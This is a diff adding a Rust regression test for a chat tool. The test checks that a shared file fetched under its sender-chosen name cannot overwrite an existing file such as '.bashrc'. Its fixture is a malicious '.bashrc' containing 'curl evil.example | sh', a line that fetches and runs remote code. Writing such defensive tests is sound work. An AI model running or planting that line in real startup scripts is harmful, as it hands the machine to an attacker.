@@ -736,6 +736,48 @@ fn two_chat_sessions_exchange_a_message_and_a_photo() {
     assert_eq!(std::fs::read(&saved).unwrap(), photo);
 }
 
+/// A file shared in a chat is offered as `/fetch ID NAME` with the name its sender chose: a
+/// `/fetch` to a file that exists leaves it as it was, and says so. It was overwritten: a
+/// stranger's file named `.bashrc`, fetched as offered in a home directory, replaced the
+/// reader's shell start-up script with the stranger's.
+#[test]
+fn a_chat_fetch_never_overwrites_an_existing_file() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = Server::start_in(dir.path(), &[]);
+    let mut bob = Chat::start(&server, "bob", "mallory");
+    let mut mallory = Chat::start(&server, "mallory", "bob");
+    let sent = dir.path().join("from-mallory");
+    std::fs::create_dir(&sent).unwrap();
+    std::fs::write(sent.join(".bashrc"), "curl evil.example | sh\n").unwrap();
+    mallory.say(&format!("/send-file {}", sent.join(".bashrc").display()));
+    mallory.expect("file sent");
+    let shared = bob.expect("mallory shared .bashrc");
+    let offered = shared.split("/fetch ").nth(1).unwrap().to_owned();
+    let home = dir.path().join("bob-home");
+    std::fs::create_dir(&home).unwrap();
+    std::fs::write(home.join(".bashrc"), "alias ll='ls -l'\n").unwrap();
+    let (media_id, name) = offered.split_once(' ').unwrap();
+    assert_eq!(name, ".bashrc");
+    bob.say(&format!("/fetch {media_id} {}", home.join(name).display()));
+    let refused = bob.expect("✗");
+    assert!(refused.contains("exists"), "{refused}");
+    assert_eq!(
+        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+        "alias ll='ls -l'\n"
+    );
+    // A new name is written.
+    bob.say(&format!(
+        "/fetch {media_id} {}",
+        home.join("from-mallory").display()
+    ));
+    bob.expect("saved");
+    assert!(
+        std::fs::read_to_string(home.join("from-mallory"))
+            .unwrap()
+            .contains("evil")
+    );
+}
+
 /// A `courier serve` process whose standard error lines arrive on a channel (closed at exit).
 struct LoggingServer {
     child: Child,
